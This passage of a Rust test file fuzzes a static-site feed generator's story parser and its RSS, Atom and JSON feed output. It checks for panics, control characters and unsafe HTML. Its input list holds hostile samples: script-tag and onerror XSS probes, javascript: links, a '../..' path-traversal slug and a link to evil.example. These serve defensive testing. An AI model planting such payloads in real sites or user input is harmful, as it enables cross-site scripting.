        assert!(!text.contains('\r'), "a CR survived decoding");
        assert!(
            !text.contains('\u{FFFD}') || holds_a_replacement_character(bytes),
            "decoding slipped in a U+FFFD the input did not hold"
        );
        let base = base();
        let site = Site { base_url: &base, timezone: chrono_tz::Asia::Shanghai };
        let modified = DateTime::<Utc>::from_timestamp(1_709_800_000, 0);
        for name in ["2024-03-07-story.md", "story.txt", "story.markdown"] {
            let source = Source { rel_path: Path::new(name), shown_path: Path::new(name), text: &text, modified };
            let Ok(parsed) = article::parse(source, site) else { continue };
            let s = &parsed.story;
            for field in [&s.title, &s.summary].into_iter().chain(&s.tags).chain(&s.categories).chain(&s.authors) {
                assert!(
                    field.chars().all(|c| feedsmith::chars::is_xml_char(c) && c != '\n' && c != '\t'),
                    "{name}: a one-line field holds a control character or line break: {field:?}"
                );
            }
            assert!(!s.title.is_empty(), "{name}: an empty title was accepted");
            assert!(url::Url::parse(&s.link).is_ok_and(|u| matches!(u.scheme(), "http" | "https")), "{}", s.link);
            let html = article::content_html(s, &text);
            assert_harmless(&html, name, false);
        }
    }

    /// What the `article_to_feeds` fuzz target checks: any story text to
    /// the three feeds gives XML and JSON that parse back with one entry.
    pub(super) fn check_story_to_feeds(bytes: &[u8]) {
        let Ok(text) = std::str::from_utf8(bytes) else { return };
        let base = base();
        let site = Site { base_url: &base, timezone: chrono_tz::Asia::Shanghai };
        let modified = DateTime::<Utc>::from_timestamp(1_709_800_000, 0);
        let source = Source { rel_path: Path::new("s.md"), shown_path: Path::new("s.md"), text, modified };
        let Ok(parsed) = article::parse(source, site) else { return };
        let story = parsed.story;
        let head = Head {
            title: story.title.clone(),
            description: story.summary.clone(),
            home_url: base.to_string(),
            folder_url: base.to_string(),
            feeds_url: base.to_string(),
            language: story.lang.clone(),
            author: story.authors.first().cloned(),
            hubs: Vec::new(),
            timezone: chrono_tz::Asia::Shanghai,
            archive: false,
            current: None,
            prev_archive: None,
            next_archive: None,
        };
        let html: Arc<str> = article::content_html(&story, text).into();
        let selected = [Selected { story: &story, updated: story.date, content_html: Some(html) }];
        let model = feed::build(&head, &selected);
        for xml in [feed::rss::to_rss(&model), feed::atom::to_atom(&model)] {
            let options = roxmltree::ParsingOptions { allow_dtd: false, ..roxmltree::ParsingOptions::default() };
            roxmltree::Document::parse_with_options(&xml, options).expect("well-formed XML");
            let parsed = feed_rs::parser::parse(xml.as_bytes()).expect("feed-rs parses our XML");
            assert_eq!(parsed.entries.len(), 1);
        }
        let json = feed::json_feed::to_json_feed(&model);
        let value: serde_json::Value = serde_json::from_str(&json).expect("valid JSON");
        assert_eq!(value["items"][0]["id"].as_str(), Some(model.items[0].id.as_str()));
    }

    /// Pieces of story files: BOMs, fences, line endings, front matter keys
    /// right and wrong, hostile markup, invalid UTF-8, GB18030, NUL.
    const PIECES: &[&[u8]] = &[
        b"\xEF\xBB\xBF",
        b"\xFF\xFE",
        b"\xFE\xFF",
        b"+++\n",
        b"---\n",
        b"...\n",
        b"+++\r\n",
        b"---\r",
        b"\r\n",
        b"\r",
        b"\n",
        b"\n\n",
        b"title = \"t\"\n",
        b"title: t\n",
        b"title = []\n",
        b"date = 2024-03-07\n",
        b"date: 2024-03-07 15:00\n",
        b"date = 12\n",
        b"date = \"2024-02-30\"\n",
        b"draft = \"yes\"\n",
        b"draft: yes\n",
        b"tags = \"a\"\n",
        b"tags: [a, b\n",
        b"kicker = \"<script>alert(1)</script>\"\n",
        b"slug = \"../..\"\n",
        b"id = \"javascript:alert(1)\"\n",
        b"link = \"//evil.example/\"\n",
        b"lang = \"\\\"><x\"\n",
        b"summary: \"\\0\\x1b\"\n",
        b"# Heading\n",
        b"Title line\n",
        b"<script>alert(1)</script>",
        b"<img src=x onerror=alert(1)>",
        b"<a href=\"javascript:alert(1)\">x</a>",
        b"[a](javascript:alert(1))",
        b"<iframe src=x>",
        b"[^1]\n\n[^1]: n\n",
        b"| a |\n|---|\n| 1 |\n",
        b"```\n",
        b"\0",
        b"\xFF",
        b"\x80",
        b"\xC0\x80",
        b"\xED\xA0\x80",
        b"\xC4\xE3\xBA\xC3",
        b"\x81\x30\x81\x30",
        b"\x84\x31\xA4\x37",
        b"\xEF\xBF\xBD",
        b"\xF4\x90\x80\x80",
        "永康日报".as_bytes(),
        "👩‍👩‍👧".as_bytes(),
        b"\x0b\x1b",
        "\u{FFFE}\u{FFFF}".as_bytes(),
        b"&amp;",
        b"]]>",
        b"\\u0000",
    ];

    fn story_bytes() -> impl Strategy<Value = Vec<u8>> {
        let piece = prop_oneof![
            6 => proptest::sample::select(PIECES).prop_map(<[u8]>::to_vec),
            1 => proptest::collection::vec(any::<u8>(), 0..8),
            1 => any::<String>().prop_map(String::into_bytes),
        ];
        let pieces = proptest::collection::vec(piece, 0..40).prop_map(|v| v.concat());
        prop_oneof![
            1 => proptest::collection::vec(any::<u8>(), 0..512),
            4 => pieces.clone(),
            // The same as UTF-16 with a BOM, either byte order.
            1 => (any::<bool>(), pieces).prop_map(|(be, bytes)| {
                let text = String::from_utf8_lossy(&bytes).into_owned();
                let mut out = if be { vec![0xFE, 0xFF] } else { vec![0xFF, 0xFE] };
                for unit in text.encode_utf16() {
                    out.extend(if be { unit.to_be_bytes() } else { unit.to_le_bytes() });
                }
                out
            }),
        ]
    }

    proptest! {
        #![proptest_config(Config {
            cases: std::env::var("PROPTEST_CASES").ok().and_then(|n| n.parse().ok()).unwrap_or(256),
            failure_persistence: Some(Box::new(FileFailurePersistence::Direct(
                "tests/hostile_support/proptest-regressions.txt",
            ))),
            ..Config::default()
        })]

        /// Arbitrary bytes — valid and invalid UTF-8, BOMs, UTF-16, fences,
        /// front matter right and wrong — through `decode` and `parse`
        /// never panic, and whatever parses renders harmless HTML and
        /// feeds that parse back.
        #[test]
        fn any_bytes_decode_parse_and_render_without_panicking(bytes in story_bytes()) {
            check_story_bytes(&bytes);
            check_story_to_feeds(&bytes);
        }
    }

    /// Every input kept by the fuzzers (`fuzz/regressions/<target>/`, the
    /// crashing inputs) and every committed seed (`fuzz/seeds/<target>/`)
    /// replayed through the library with the checks of its target.
    #[test]
    fn fuzz_regressions_and_seeds_replay_through_the_library() {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz");
        let mut replayed = 0;
        for kind in ["regressions", "seeds"] {
            for (target, check) in [
                ("article_parse", check_story_bytes as fn(&[u8])),
                ("article_to_feeds", check_story_to_feeds as fn(&[u8])),
            ] {
                let Ok(entries) = std::fs::read_dir(root.join(kind).join(target)) else { continue };
                for entry in entries.flatten() {
                    let bytes = std::fs::read(entry.path()).expect("read fuzz input");
                    let name = entry.path().display().to_string();
                    let result = std::panic::catch_unwind(|| check(&bytes));
                    assert!(result.is_ok(), "{name} fails its target's checks");
                    replayed += 1;
                }
            }
        }
        assert!(replayed > 0, "no fuzz inputs found under {}", root.display());
    }
}
